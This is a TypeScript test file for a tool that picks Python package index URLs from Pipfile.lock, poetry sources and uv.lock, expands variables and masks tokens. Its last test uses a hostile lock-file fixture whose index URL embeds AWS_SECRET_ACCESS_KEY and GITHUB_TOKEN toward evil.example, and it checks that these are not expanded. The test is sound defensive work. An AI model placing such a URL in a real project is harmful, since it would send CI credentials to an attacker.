import { parse } from 'smol-toml'
import { describe, expect, it } from 'vitest'
import {
  expandEnvironment,
  pipIndexes,
  pipfileIndexes,
  poetryIndexes,
  uvIndexes
} from '../../src/sources/indexes.js'

describe('Pipfile.lock _meta.sources', () => {
  const meta = {
    sources: [
      { name: 'private', url: 'https://ci:${TOKEN}@pkgs.example.com/simple/', verify_ssl: true },
      { name: 'mirror', url: 'http://$MIRROR_HOST/simple/', verify_ssl: false }
    ]
  }

  it('takes the first as the index and the rest as extra indexes, expanding variables as pipenv does', () => {
    const indexes = pipfileIndexes(meta, 'Pipfile.lock', {
      TOKEN: 't0k3n',
      MIRROR_HOST: 'mirror.internal'
    })
    expect(indexes?.index).toEqual({
      url: 'https://ci:t0k3n@pkgs.example.com/simple/',
      from: 'Pipfile.lock _meta.sources "private"'
    })
    expect(indexes?.extra).toEqual([
      { url: 'http://mirror.internal/simple/', from: 'Pipfile.lock _meta.sources "mirror"' }
    ])
    expect(indexes?.trustedHosts).toEqual(['mirror.internal'])
    expect(indexes?.secrets).toContain('t0k3n')
  })

  it('hands over a token expanded into a URL path for masking', () => {
    const indexes = pipfileIndexes(
      { sources: [{ name: 'fury', url: 'https://pypi.fury.io/${FURY_TOKEN}/acme/' }] },
      'Pipfile.lock',
      { FURY_TOKEN: 'fury-t0k3n-value' }
    )
    expect(indexes?.index?.url).toBe('https://pypi.fury.io/fury-t0k3n-value/acme/')
    expect(indexes?.secrets).toContain('fury-t0k3n-value')
  })

  it('leaves a variable that is not set as written', () => {
    expect(expandEnvironment('https://${NOT_SET}@x/$ALSO_NOT/', {})).toBe(
      'https://${NOT_SET}@x/$ALSO_NOT/'
    )
  })
})

describe('[[tool.poetry.source]] by priority', () => {
  const pyproject = (sources: string) => parse(`[tool.poetry]\nname = "x"\n${sources}`)
  const source = (name: string, priority?: string) =>
    `[[tool.poetry.source]]\nname = "${name}"\nurl = "https://${name}.example.com/simple/"\n${priority ? `priority = "${priority}"\n` : ''}`

  it('uses the first primary source as the index, further primary and supplemental ones as extra', () => {
    const indexes = poetryIndexes(
      pyproject(source('a', 'supplemental') + source('b') + source('c', 'primary')),
      'pyproject.toml',
      new Set()
    )
    expect(indexes?.index?.url).toBe('https://b.example.com/simple/')
    expect(indexes?.extra.map(i => i.url)).toEqual([
      'https://a.example.com/simple/',
      'https://c.example.com/simple/'
    ])
  })

  it('keeps PyPI as the index when there are only supplemental sources, and adds an explicit one only when a locked package uses it', () => {
    const sources = pyproject(source('extra', 'supplemental') + source('only', 'explicit'))
    expect(poetryIndexes(sources, 'pyproject.toml', new Set())?.index).toBeUndefined()
    expect(poetryIndexes(sources, 'pyproject.toml', new Set())?.extra.map(i => i.from)).toEqual([
      'pyproject.toml [[tool.poetry.source]] "extra" (supplemental)'
    ])
    expect(
      poetryIndexes(sources, 'pyproject.toml', new Set(['only']))?.extra.map(i => i.url)
    ).toContain('https://only.example.com/simple/')
  })

  it('puts the POETRY_HTTP_BASIC_<NAME>_* credentials into the URL, as secrets', () => {
    const indexes = poetryIndexes(pyproject(source('my-repo')), 'pyproject.toml', new Set(), {
      POETRY_HTTP_BASIC_MY_REPO_USERNAME: 'ci',
      POETRY_HTTP_BASIC_MY_REPO_PASSWORD: 'p@ss'
    })
    expect(indexes?.index?.url).toBe('https://ci:p%40ss@my-repo.example.com/simple/')
    expect(indexes?.secrets).toContain('p%40ss')
  })
})

describe('PyPI named by a lock', () => {
  it("is left to pip, so the runner's pip configuration (a mirror, CodeArtifact) still applies", () => {
    const pypi = { sources: [{ name: 'pypi', url: 'https://pypi.org/simple', verify_ssl: true }] }
    expect(pipfileIndexes(pypi, 'Pipfile.lock')).toBeUndefined()
    const mixed = uvIndexes(
      ['https://pypi.org/simple', 'https://pypi.org/simple', 'https://private/simple'],
      'uv.lock'
    )
    expect(mixed?.index).toBeUndefined()
    expect(mixed?.extra.map(i => i.url)).toEqual(['https://private/simple'])
  })
})

describe('uv.lock registries and the index-url input', () => {
  it('takes the registry most packages come from as the index', () => {
    const indexes = uvIndexes(
      ['https://a/simple', 'https://b/simple', 'https://b/simple'],
      'uv.lock'
    )
    expect(indexes?.index?.url).toBe('https://b/simple')
    expect(indexes?.extra.map(i => i.url)).toEqual(['https://a/simple'])
  })

  it('lets an index-url input win, saying over what', () => {
    const fromLock = uvIndexes(['https://lock/simple'], 'uv.lock')
    const chosen = pipIndexes({ indexUrl: 'https://input/simple', extraIndexUrls: [] }, fromLock)
    expect(chosen.indexUrl).toBe('https://input/simple')
    expect(chosen.log).toEqual([
      'index: https://input/simple (index-url) wins over https://lock/simple (uv.lock (source registry))'
    ])
  })

  it("adds the extra-index-url input to a lock's index", () => {
    const fromLock = uvIndexes(['https://lock/simple'], 'uv.lock')
    const chosen = pipIndexes({ extraIndexUrls: ['https://more/simple'] }, fromLock)
    expect([chosen.indexUrl, ...chosen.extraIndexUrls]).toEqual([
      'https://lock/simple',
      'https://more/simple'
    ])
  })
})

describe('a hostile Pipfile.lock', () => {
  it('never sends the AWS or GitHub credentials of the runner to the index it names', () => {
    const meta = {
      sources: [
        { name: 'x', url: 'https://${AWS_SECRET_ACCESS_KEY}:${GITHUB_TOKEN}@evil.example/simple' }
      ]
    }
    const saved = { ...process.env }
    process.env.AWS_SECRET_ACCESS_KEY = 'wJalrXUtnFEMI-secret'
    process.env.GITHUB_TOKEN = 'ghs_secret'
    try {
      const url = pipfileIndexes(meta, 'Pipfile.lock')?.index?.url ?? ''
      expect(url).not.toContain('wJalrXUtnFEMI-secret')
      expect(url).not.toContain('ghs_secret')
      expect(url).toBe('https://${AWS_SECRET_ACCESS_KEY}:${GITHUB_TOKEN}@evil.example/simple')
    } finally {
      process.env = saved
    }
  })
})
